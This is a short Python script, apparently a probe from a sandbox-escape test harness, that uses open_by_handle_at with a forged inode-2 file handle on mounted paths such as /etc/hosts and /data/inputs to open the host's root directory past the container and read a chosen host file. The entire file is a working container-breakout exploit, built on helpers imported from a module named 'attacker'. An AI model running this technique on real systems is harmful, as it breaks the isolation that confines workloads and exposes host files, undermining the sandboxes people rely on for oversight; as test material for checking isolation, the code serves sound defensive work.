"""Open the host's root directory by its inode number, past every mount."""

import ctypes
import os
import struct

from attacker import PLAN, attempt, call, gained

AT_FDCWD = -100
FILEID_INO32_GEN = 1

for place in ("/data/inputs", "/etc/hosts", "/etc/resolv.conf", "/"):
    with attempt():
        size = 8
        handle = ctypes.create_string_buffer(struct.pack("=IiII", size, FILEID_INO32_GEN, 2, 0))
        mounted = os.open(place, os.O_RDONLY)
        root = call("open_by_handle_at", mounted, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
        gained(f"a directory of {len(os.listdir(root))} entries")
        with open(os.open(PLAN["host_file"][1:], os.O_RDONLY, dir_fd=root), "rb") as stream:
            gained(stream.read(100))
